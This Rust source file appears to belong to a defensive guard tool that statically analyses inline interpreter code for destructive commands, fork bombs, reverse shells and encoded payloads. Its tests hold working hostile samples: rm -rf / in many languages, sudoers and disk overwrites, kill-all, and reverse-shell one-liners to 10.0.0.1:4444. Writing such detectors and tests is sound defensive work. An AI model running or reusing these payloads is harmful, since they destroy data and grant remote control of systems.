//! Interpreter code (`python -c`, `node -e`, `perl -e`, heredocs into `python3 -`, scripts written earlier on the line, `go run`, Tcl, jshell): the shell commands, deletions, writes, kills, fork loops and reverse shells it would perform, and what it hides.
//!
//! The code is lexed under its language's rules (`lex`), so that a call
//! named inside a string literal is text, not a call; calls are then read
//! with their real arguments (balanced brackets and quotes) and the values
//! of those arguments computed where the code makes them plain: literals,
//! concatenations, simple variables, home-directory expressions, path joins,
//! base64, hex, rot13 and zlib decoding (`view`, `value`). `calls` says what
//! each call does; `indirect` follows aliases and calls by computed name;
//! `tcl` reads Tcl and Expect, whose commands are words like the shell's.

mod aliases;
mod assign;
mod calls;
mod files;
mod given;
mod idents;
mod indirect;
mod lex;
#[cfg(test)]
mod library_tests;
mod patterns;
mod perl;
mod perms;
pub(super) mod places;
mod run;
mod source;
mod tcl;
mod value;
mod view;

use std::collections::HashSet;

use super::command;
use lex::Dialect;
use view::{Span, View};

pub use given::Given;
pub(crate) use run::argument_files;
pub use source::{invocation, source, Invocation, Source};

/// Something the code would do that the shell rules can judge.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Action {
    /// A command line handed to a shell (`os.system`, backticks), or a
    /// program and its arguments quoted as one (`subprocess.run([...])`).
    Shell(String),
    /// A program the code itself acts as (`rm -r -f PATH` for
    /// `shutil.rmtree(PATH)`, `kill -9 -1` for `os.kill(-1, 9)`).
    Run(Vec<String>),
    /// A file opened for writing (`open(P, 'w')`, `fs.writeFileSync(P, ...)`).
    Write { path: String, append: bool },
    /// A file written, deleted or moved over at a path warden cannot
    /// compute (`open(p, 'w')` with `p` from a loop, input or a file).
    WriteUnknown,
    /// A loop that keeps forking: its source.
    ForkLoop(String),
    /// A socket to a remote host wired to a shell.
    ReverseShell,
}

#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Effect {
    pub action: Action,
    /// The action came out of a decoded payload (`b64decode`, `atob`).
    pub decoded: bool,
}

/// What the code does that the guard cannot see through, each asked about
/// by its own rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Concern {
    /// A function reached by a name computed at run time on a module that
    /// runs commands (`getattr(os, n)`, `Kernel.send(x)`, PHP `$f(...)`),
    /// or a process forked to run the code after it (Perl `open(F, "|-")`).
    Indirection,
    /// Code evaluated from text decoded or decompressed at run time, which
    /// the guard could not decode itself.
    EvalDecoded,
    /// A command run whose program the guard cannot compute.
    DynamicCommand,
    /// A native library loaded into the interpreter (`ctypes.CDLL`, `dl()`).
    NativeLibrary,
    /// A shell started with no command of the code's own (`pty.spawn("/bin/sh")`,
    /// `exec "/bin/sh"`): it runs whatever it reads, which the guard never sees.
    Shell,
    /// Code or a command fetched from the network and run
    /// (`exec(urlopen(URL).read())`, `eval URI.open(URL).read`).
    EvalFetched,
}

/// What reading the code found.
#[derive(Debug, Default)]
pub struct Reading {
    pub effects: Vec<Effect>,
    seen: HashSet<Effect>,
    /// What the code hides, with the code that hides it.
    pub concerns: Vec<(Concern, String)>,
    /// Why the reading stopped short, if it did: the code went past a limit.
    pub limit: Option<&'static str>,
    /// Signs of a shell wired to a socket, gathered across nested code.
    net: Net,
}

/// What a reverse shell is made of, seen anywhere in the code.
#[derive(Debug, Default, Clone, Copy)]
struct Net {
    /// A socket was opened to (or accepted from) a host.
    socket: bool,
    /// A shell was started without a command of the code's own, or a
    /// command or code came from a value the guard cannot compute (what the
    /// socket sends, when there is one).
    runs_unknown: bool,
}

impl Reading {
    fn push(&mut self, action: Action, decoded: bool) {
        // Whichever reader found it, a shell started bare runs what it reads.
        if let Action::Shell(text) = &action {
            if calls::starts_shell(text) {
                self.concern(Concern::Shell, calls::compact(text));
            }
        }
        let effect = Effect { action, decoded };
        if self.seen.insert(effect.clone()) {
            self.effects.push(effect);
        }
    }

    fn concern(&mut self, concern: Concern, detail: String) {
        if !self
            .concerns
            .iter()
            .any(|(c, d)| *c == concern && *d == detail)
        {
            self.concerns.push((concern, detail));
        }
    }

    /// Whether the code runs code or a command whose text it cannot
    /// compute: what arrives on stdin or a socket, say (`exec(sys.stdin.read())`).
    pub fn runs_unknown(&self) -> bool {
        self.net.runs_unknown
    }

    fn merge(&mut self, other: Reading) {
        for effect in other.effects {
            self.push(effect.action, effect.decoded);
        }
        for (concern, detail) in other.concerns {
            self.concern(concern, detail);
        }
        self.net.socket |= other.net.socket;
        self.net.runs_unknown |= other.net.runs_unknown;
        if self.limit.is_none() {
            self.limit = other.limit;
        }
    }
}

/// An interpreter language warden reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    Python,
    Node,
    Ruby,
    Perl,
    Php,
    Lua,
    R,
    Julia,
    Tcl,
    Java,
    Go,
}

impl Lang {
    /// The lexical family the code is read with; Tcl has its own reader.
    fn dialect(self) -> Dialect {
        match self {
            Lang::Python | Lang::R | Lang::Tcl => Dialect::Python,
            Lang::Node | Lang::Java | Lang::Go => Dialect::Js,
            Lang::Ruby => Dialect::Ruby,
            Lang::Julia => Dialect::Julia,
            Lang::Perl => Dialect::Perl,
            Lang::Php => Dialect::Php,
            Lang::Lua => Dialect::Lua,
        }
    }
}

/// What `code` does when an interpreter of `lang` runs it, with the
/// arguments and environment of `given` where the command line says.
pub fn read(code: &str, lang: Lang, given: Option<&Given>) -> Reading {
    let rewritten = (lang == Lang::Perl)
        .then(|| perl::indirect_calls(code))
        .flatten();
    let code = rewritten.as_deref().unwrap_or(code);
    let mut reading = if lang == Lang::Tcl {
        tcl::read(code)
    } else {
        read_code(code, lang, 0, false, given)
    };
    if lang == Lang::Java {
        jshell_commands(code, &mut reading);
    }
    if reading.net.socket && reading.net.runs_unknown {
        reading.push(Action::ReverseShell, false);
    }
    reading
}

/// jshell's own commands among the Java it reads: `/save FILE` writes the
/// session to a file.
fn jshell_commands(code: &str, reading: &mut Reading) {
    for line in code.lines() {
        let Some(rest) = line.trim().strip_prefix("/save") else {
            continue;
        };
        if let Some(path) = rest.split_whitespace().rfind(|w| !w.starts_with('-')) {
            reading.push(files::write(path.to_string(), false), false);
        }
    }
}

fn read_code(
    code: &str,
    lang: Lang,
    depth: usize,
    decoded: bool,
    given: Option<&Given>,
) -> Reading {
    let lexed = lex::lex(code, lang.dialect());
    let view = View::new(code, lang.dialect(), &lexed).with_given(given);
    let aliases = aliases::Aliases::find(&view, lang);
    let names = match lang.dialect() {
        Dialect::Js => &idents::JS,
        Dialect::Perl | Dialect::Ruby => &idents::AT_SIGIL,
        _ => &idents::SIGIL,
    };
    let tokens: Vec<Span> = names
        .find(code)
        .filter(|&(start, end)| {
            let name = &code[start..end];
            calls::interesting(name) || aliases.renames(name)
        })
        .collect();
    let mut reading = Reading::default();
    calls::Reader::new(&view, lang, &aliases, &mut reading, depth, decoded).read(&lexed, &tokens);
    if let Some(why) = view.incomplete.get() {
        reading.limit.get_or_insert(why);
    }
    reading
}

/// The interpreters by name (before any version: `python3.11` is `python`).
#[rustfmt::skip]
const INTERPRETERS: &[(&str, Lang)] = &[
    ("python", Lang::Python), ("pypy", Lang::Python), ("perl", Lang::Perl), ("ruby", Lang::Ruby),
    // jrunscript and jjs run JavaScript on the JVM, where `exec` runs a command.
    ("node", Lang::Node), ("nodejs", Lang::Node), ("deno", Lang::Node), ("bun", Lang::Node),
    ("jrunscript", Lang::Node), ("jjs", Lang::Node), ("julia", Lang::Julia), ("php", Lang::Php),
    ("lua", Lang::Lua), ("luajit", Lang::Lua), ("rscript", Lang::R), ("r", Lang::R),
    ("tclsh", Lang::Tcl), ("wish", Lang::Tcl), ("expect", Lang::Tcl), ("jshell", Lang::Java),
];

/// The interpreter language of a program name, if it is one.
pub fn language(program: &str) -> Option<Lang> {
    let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS
        .iter()
        .find(|(name, _)| *name == base)
        .map(|&(_, lang)| lang)
}

/// The names [`language`] knows, without versions.
pub(crate) fn interpreter_names() -> impl Iterator<Item = &'static str> {
    INTERPRETERS.iter().map(|&(name, _)| name)
}

/// Whether `program` runs code warden reads (`go` only as `go run`).
pub fn runs_code(program: &str, args: &[String]) -> bool {
    language(program).is_some() || go_run(program, args)
}

/// `go run`: Go is compiled, not an interpreter, but `go run` runs the
/// files it names.
fn go_run(program: &str, args: &[String]) -> bool {
    program == "go" && args.first().is_some_and(|a| a == "run")
}

/// The code an interpreter command runs inline: its `-c`/`-e` code or its
/// stdin (not a script file, which only the line's own writes can tell).
pub fn inline_code(cmd: &command::Command) -> Option<String> {
    match source(cmd)? {
        (_, Source::Inline(code)) => Some(code),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every string of one to `up_to` pieces from `pieces`: the inputs on
    /// which a shortcut is compared with what it replaces.
    pub(super) fn every_string(pieces: &[&str], up_to: usize) -> Vec<String> {
        let mut all = Vec::new();
        let mut longest = vec![String::new()];
        for _ in 0..up_to {
            longest = longest
                .iter()
                .flat_map(|s| pieces.iter().map(move |p| format!("{s}{p}")))
                .collect();
            all.extend(longest.iter().cloned());
        }
        all
    }

    pub(super) fn read_as(program: &str, code: &str) -> Reading {
        read(code, language(program).unwrap_or(Lang::Python), None)
    }

    fn effects(program: &str, code: &str) -> Vec<Action> {
        read_as(program, code)
            .effects
            .into_iter()
            .map(|e| e.action)
            .collect()
    }

    fn shell(program: &str, code: &str) -> Vec<String> {
        effects(program, code)
            .into_iter()
            .filter_map(|a| match a {
                Action::Shell(s) => Some(s),
                _ => None,
            })
            .collect()
    }

    fn run(argv: &[&str]) -> Action {
        Action::Run(argv.iter().map(|s| s.to_string()).collect())
    }

    fn write(path: &str, append: bool) -> Action {
        Action::Write {
            path: path.into(),
            append,
        }
    }

    #[test]
    fn shell_calls() {
        assert_eq!(
            shell("python3", "__import__('os').system('rm -rf /')"),
            ["rm -rf /"]
        );
        assert_eq!(
            shell(
                "python3",
                "import subprocess; subprocess.run(['rm','-rf','/'])"
            ),
            ["'rm' '-rf' '/'"]
        );
        assert_eq!(
            shell(
                "python3",
                "import os; os.execvp('rm', ['rm', '-rf', '/usr'])"
            ),
            ["'rm' '-rf' '/usr'"]
        );
        assert_eq!(
            shell(
                "node",
                "require('child_process').spawnSync('rm', ['-rf', '/boot'])"
            ),
            ["'rm' '-rf' '/boot'"]
        );
        assert_eq!(
            shell("perl", "system \"rm\", \"-rf\", \"/\" if 1"),
            ["'rm' '-rf' '/'"]
        );
        assert_eq!(shell("ruby", "`rm -rf ~`"), ["rm -rf ~"]);
        assert_eq!(shell("perl", "print qx{reboot}"), ["reboot"]);
        assert_eq!(
            shell("python3", "c = 'rm -rf /'\nimport os\nos.system(c)"),
            ["rm -rf /"]
        );
        assert_eq!(
            shell("python3", "os.system('rm -rf ' + d)"),
            ["rm -rf \"$(interpreter value)\""]
        );
        // Python's exec runs Python; Perl's runs a program.
        assert_eq!(
            shell("python3", "exec('import os; os.system(\"reboot\")')"),
            ["reboot"]
        );
        assert_eq!(shell("perl", "exec 'reboot'"), ["reboot"]);
        // A command whose program is unknown is left alone.
        assert!(shell("python3", "os.system(tool + ' --force')").is_empty());
        // JavaScript backticks are strings, not commands.
        assert!(shell("node", "console.log(`rm -rf /`)").is_empty());
    }

    #[test]
    fn names_inside_strings_are_text() {
        assert!(effects("python3", r#"print("shutil.rmtree(\"/\")")"#).is_empty());
        assert!(effects("ruby", r#"puts "FileUtils.rm_rf(\"/\")""#).is_empty());
        assert!(effects("python3", "print('rm -rf /')").is_empty());
        assert!(effects(
            "python3",
            "import json,sys; print(json.load(sys.stdin)['a'])"
        )
        .is_empty());
        assert!(effects("node", "console.log(process.version)").is_empty());
        assert!(effects("php", "echo \"shell_exec(rm -rf /)\\n\";").is_empty());
        assert!(
            effects("python3", "# it's\nimport shutil; shutil.rmtree('/')")
                .contains(&run(&["rm", "-r", "-f", "/"]))
        );
        // Interpolated code runs.
        assert_eq!(shell("ruby", "puts \"#{system('reboot')}\""), ["reboot"]);
    }

    #[test]
    fn recursive_deletes_with_balanced_arguments() {
        let rm_rf = |p: &str| run(&["rm", "-r", "-f", p]);
        assert_eq!(
            effects("python3", "import shutil; shutil.rmtree('/home/user')"),
            [rm_rf("/home/user")]
        );
        assert_eq!(
            effects(
                "node",
                "require('fs').rmSync(require('os').homedir(), {recursive:true})"
            ),
            [rm_rf("~")]
        );
        assert_eq!(
            effects("python3", "shutil.rmtree(os.path.expanduser('~'))"),
            [rm_rf("~")]
        );
        assert_eq!(
            effects("python3", "shutil.rmtree(Path.home() / '.cache')"),
            [rm_rf("~/.cache")]
        );
        assert_eq!(effects("ruby", "FileUtils.rm_rf(Dir.home)"), [rm_rf("~")]);
        assert_eq!(effects("perl", "remove_tree(\"/usr\")"), [rm_rf("/usr")]);
        assert_eq!(
            effects("node", "fs.rmSync(process.env.HOME, {recursive: true})"),
            [rm_rf("~")]
        );
        assert_eq!(effects("perl", "rmtree($ENV{HOME})"), [rm_rf("~")]);
        assert_eq!(
            effects("ruby", "FileUtils.rm_rf(ENV['HOME'])"),
            [rm_rf("~")]
        );
        assert_eq!(
            effects("python3", "shutil.rmtree(os.environ['HOME'])"),
            [rm_rf("~")]
        );
        assert_eq!(
            effects("node", "fs.rmSync('dist', {recursive: true, force: true})"),
            [rm_rf("dist")]
        );
    }

    #[test]
    fn single_file_deletes() {
        let rm = |p: &str| run(&["rm", p]);
        assert_eq!(
            effects("python3", "import os; os.remove('/etc/passwd')"),
            [rm("/etc/passwd")]
        );
        assert_eq!(
            effects("python3", "os.unlink('/etc/hosts')"),
            [rm("/etc/hosts")]
        );
        assert_eq!(
            effects("python3", "Path('/etc/hosts').unlink()"),
            [rm("/etc/hosts")]
        );
        assert_eq!(
            effects("node", "fs.unlinkSync('/etc/hosts')"),
            [rm("/etc/hosts")]
        );
        assert_eq!(
            effects("ruby", "File.delete('/etc/hosts')"),
            [rm("/etc/hosts")]
        );
        assert_eq!(
            effects("perl", "unlink '/etc/hosts', '/etc/motd'"),
            [rm("/etc/hosts"), rm("/etc/motd")]
        );
        // A path computed at run time: the command's arguments may be it.
        assert_eq!(effects("python3", "os.remove(tmp)"), [Action::WriteUnknown]);
    }

    #[test]
    fn file_writes() {
        assert_eq!(
            effects("python3", "open('/dev/sda', 'wb').write(b'\\0' * 512)"),
            [write("/dev/sda", false)]
        );
        assert_eq!(
            effects("python3", "open('/etc/x', mode='a')"),
            [write("/etc/x", true)]
        );
        assert_eq!(
            effects("python3", "Path('/etc/sudoers').write_text('x')"),
            [write("/etc/sudoers", false)]
        );
        assert_eq!(
            effects(
                "node",
                "require('fs').writeFileSync('/etc/sudoers', 'dev ALL=(ALL) NOPASSWD:ALL\\n')"
            ),
            [write("/etc/sudoers", false)]
        );
        assert_eq!(
            effects("ruby", "File.write('/etc/sudoers', 'x')"),
            [write("/etc/sudoers", false)]
        );
        assert_eq!(
            effects("perl", "open(F, '>/etc/sudoers')"),
            [write("/etc/sudoers", false)]
        );
        assert_eq!(
            effects("perl", "open(my $fh, '>>', '/etc/sudoers')"),
            [write("/etc/sudoers", true)]
        );
        assert_eq!(shell("perl", "open(F, 'rm -rf / |')"), ["rm -rf /"]);
        // Reading is not writing.
        assert!(effects("python3", "open(p).read(); open('x', 'r')").is_empty());
        assert!(effects(
            "python3",
            "import json; print(json.load(open('package.json')))"
        )
        .is_empty());
    }

    #[test]
    fn kill_all_and_fork_loops() {
        for (program, code, signal) in [
            ("python3", "import os; os.kill(-1, 9)", "-9"),
            ("node", "process.kill(-1)", "-TERM"),
            ("ruby", "Process.kill('KILL', -1)", "-KILL"),
            ("perl", "kill 9, -1", "-9"),
        ] {
            assert_eq!(
                effects(program, code),
                [run(&["kill", signal, "-1"])],
                "{code}"
            );
        }
        for (program, code) in [
            ("python3", "import os\nwhile True: os.fork()"),
            ("python3", "import os\nwhile 1:\n    os.fork()\n"),
            ("ruby", "loop { fork }"),
            ("perl", "fork while fork"),
            ("perl", "while(1){fork}"),
            ("php", "for(;;) pcntl_fork();"),
        ] {
            let found = effects(program, code);
            assert!(
                matches!(found.as_slice(), [Action::ForkLoop(_)]),
                "{code}: {found:?}"
            );
        }
        assert!(effects(
            "python3",
            "while True:\n    pid = os.fork()\n    os.waitpid(pid, 0)"
        )
        .is_empty());
        assert!(effects("python3", "pid = os.fork()").is_empty());
        assert!(effects("python3", "print('while True: os.fork()')").is_empty());
    }

    #[test]
    fn reverse_shells() {
        let py = r#"import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])"#;
        assert!(effects("python3", py).contains(&Action::ReverseShell));
        let php = r#"$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");"#;
        assert!(effects("php", php).contains(&Action::ReverseShell));
        let ruby = r#"require 'socket';s=TCPSocket.new("10.0.0.1",4444);[0,1,2].each{|f|s.reopen(f) rescue nil};exec "/bin/sh -i""#;
        assert!(effects("ruby", ruby).contains(&Action::ReverseShell));
        let perl = r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh")"#;
        assert!(effects("perl", perl).contains(&Action::ReverseShell));
        let node = r#"var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});"#;
        assert!(effects("node", node).contains(&Action::ReverseShell));
        let reads = "import socket; s=socket.socket(); s.connect(('h', 1)); cmd = open('/bin/sh', 'rb').read(4)";
        assert!(!effects("python3", reads).contains(&Action::ReverseShell));
        let client =
            "import socket; s = socket.create_connection(('example.com', 80)); s.sendall(b'GET /')";
        assert!(!effects("python3", client).contains(&Action::ReverseShell));
    }

    #[test]
    fn decoded_payloads() {
        let found = read_as(
            "python3",
            "import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())",
        );
        assert_eq!(
            found.effects,
            [Effect {
                action: Action::Shell("rm -rf /".into()),
                decoded: true
            }]
        );
        let found = read_as(
            "node",
            "eval(atob('cmVxdWlyZSgiZnMiKS5ybVN5bmMoIi8iLHtyZWN1cnNpdmU6dHJ1ZX0p'))",
        );
        assert_eq!(
            found.effects,
            [Effect {
                action: run(&["rm", "-r", "-f", "/"]),
                decoded: true
            }]
        );
    }

    fn concerns(program: &str, code: &str) -> Vec<Concern> {
        read_as(program, code)
            .concerns
            .into_iter()
            .map(|(c, _)| c)
            .collect()
    }

    #[test]
    fn languages_beyond_the_first_five() {
        assert_eq!(shell("julia", "run(`rm -rf $(homedir())`)"), ["rm -rf ~"]);
        assert_eq!(
            shell("julia", "d = \"/etc\"; run(`rm -rf $d`)"),
            ["rm -rf /etc"]
        );
        assert_eq!(
            shell("go", "exec.Command(\"rm\", \"-rf\", \"/usr\").Run()"),
            ["'rm' '-rf' '/usr'"]
        );
        assert_eq!(
            shell(
                "jshell",
                "Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"reboot\"})"
            ),
            ["'sh' '-c' 'reboot'"]
        );
        assert_eq!(
            shell(
                "jshell",
                "new ProcessBuilder(List.of(\"rm\", \"x\")).start()"
            ),
            ["'rm' 'x'"]
        );
        assert_eq!(
            shell("rscript", "system2(\"rm\", c(\"-rf\", \"~\"))"),
            ["rm -rf ~"]
        );
        assert_eq!(shell("tclsh", "exec reboot"), ["'reboot'"]);
    }

    #[test]
    fn home_stays_home_in_command_words() {
        assert_eq!(
            shell(
                "python3",
                "subprocess.run(['rm', '-rf', os.path.expanduser('~/x')])"
            ),
            ["'rm' '-rf' ~'/x'"]
        );
        // A `~` the code wrote is a file named `~` to a program run without a shell.
        assert_eq!(
            shell("python3", "subprocess.run(['rm', '-rf', '~'])"),
            ["'rm' '-rf' '~'"]
        );
    }

    #[test]
    fn decompressed_and_rot13_code() {
        let zlib = "import zlib,base64; exec(zlib.decompress(base64.b64decode('eJwrylXQLUpT0AcAC50CVA==')))";
        assert!(effects("python3", zlib).is_empty());
        let zlib = "import zlib,base64,os; os.system(zlib.decompress(base64.b64decode('eJwrylXQLUpT0AcAC50CVA==')).decode())";
        assert_eq!(shell("python3", zlib), ["rm -rf /"]);
        assert_eq!(
            shell("php", "eval(str_rot13('flfgrz(\"erobbg\");'));"),
            ["reboot"]
        );
        assert_eq!(
            concerns("python3", "exec(zlib.decompress(sys.stdin.buffer.read()))"),
            [Concern::EvalDecoded]
        );
        // Code the guard cannot read, but not decoded: nothing to say alone.
        assert!(concerns("python3", "exec(open('setup.py').read())").is_empty());
    }

    #[test]
    fn unknown_programs_ask_where_a_program_surely_runs() {
        for (program, code) in [
            ("python3", "import os,sys; os.system(sys.argv[1])"),
            (
                "python3",
                "import subprocess,sys; subprocess.run(sys.argv[1:])",
            ),
            (
                "python3",
                "from subprocess import check_output as co; co(input())",
            ),
            ("node", "require('child_process').execSync(process.argv[2])"),
            ("ruby", "system(ARGV[0])"),
            ("perl", "system$_ while <>"),
            ("php", "passthru($argv[1]);"),
            ("lua", "os.execute(arg[1])"),
            ("rscript", "system(commandArgs(TRUE)[1])"),
            ("go", "exec.Command(os.Args[1]).Run()"),
        ] {
            assert_eq!(
                concerns(program, code),
                [Concern::DynamicCommand],
                "{program}: {code}"
            );
        }
        for (program, code) in [
            ("python3", "import asyncio; asyncio.run(main())"),
            ("python3", "app.run(debug=True)"),
            ("node", "/x/.exec(s)"),
            ("python3", "system(x)"),
        ] {
            assert!(concerns(program, code).is_empty(), "{program}: {code}");
        }
    }

    #[test]
    fn at_is_a_sigil_only_in_perl_and_ruby() {
        // PHP's `@` silences errors: the call after it still runs.
        for code in [
            "@system(\"rm -rf ~\");",
            "$h=@popen(\"rm -rf ~\",\"r\");",
            "$h = @proc_open(\"rm -rf ~\", $p, $pipes);",
            "@shell_exec('rm -rf ~');",
            "$c = @base64_decode('cm0gLXJmIH4='); system($c);",
            "$c = 'rm -rf ~'; @exec(@$c);",
        ] {
            assert_eq!(shell("php", code), ["rm -rf ~"], "{code}");
        }
        assert!(effects("php", "$x = @file_get_contents('config.json'); echo $x;").is_empty());
        // Python's `@` is an operator (matrix product, decorator).
        assert_eq!(
            shell("python3", "from os import system; 1@system('rm -rf ~')"),
            ["rm -rf ~"]
        );
        // Perl's arrays and Ruby's instance variables are no calls.
        assert_eq!(concerns("perl", "exec@ARGV"), [Concern::DynamicCommand]);
        for (program, code) in [
            ("perl", "my @exec = (1, 2); my $n = @exec - 1; print $n"),
            ("ruby", "@system = 2; puts @system - 1"),
            ("ruby", "@exec = 'rm -rf ~'; puts @exec"),
        ] {
            let reading = read_as(program, code);
            assert!(reading.effects.is_empty(), "{program}: {code}");
            assert!(reading.concerns.is_empty(), "{program}: {code}");
        }
        assert_eq!(shell("ruby", "@x = 'rm -rf ~'; system(@x)"), ["rm -rf ~"]);
    }

    #[test]
    fn sockets_that_run_what_they_receive() {
        for (program, code) in [
            ("lua", "local s=require('socket'); local t=s.tcp(); t:connect('h',1); while true do local r=t:receive(); io.popen(r) end"),
            ("node", "require('net').connect(1,'h').on('data',d=>require('child_process').exec(d.toString()))"),
            ("python3", "import socket; s=socket.create_connection(('h',1)); exec(s.recv(99))"),
            ("rscript", "con <- socketConnection(host='h', port=1); system(readLines(con, 1))"),
            ("go", "c, _ := net.Dial(\"tcp\", \"h:1\"); cmd := exec.Command(\"/bin/sh\"); cmd.Stdin = c"),
            ("tclsh", "set s [socket h 1]; exec sh <@ $s >@ $s"),
        ] {
            assert!(
                effects(program, code).contains(&Action::ReverseShell),
                "{program}: {code}"
            );
        }
        let check = "import socket; s = socket.create_connection(('db', 5432)); s.close()";
        assert!(!effects("python3", check).contains(&Action::ReverseShell));
        let client = "require('net').connect(80, 'h', () => console.log('up'))";
        assert!(!effects("node", client).contains(&Action::ReverseShell));
        // Data the code cannot compute, given to a known program or parsed
        // as data, is no shell for the socket.
        for code in [
            "import socket, subprocess; s = socket.create_connection(('db', 5432)); subprocess.run(['pg_dump', name])",
            "import socket, re, json; s = socket.socket(); s.connect(('h', 1)); r = re.compile(p); c = json.load(f)",
            "import socket, os; s = socket.create_connection(('h', 1)); os.system('ls ' + d)",
        ] {
            assert!(!effects("python3", code).contains(&Action::ReverseShell), "{code}");
        }
    }
}
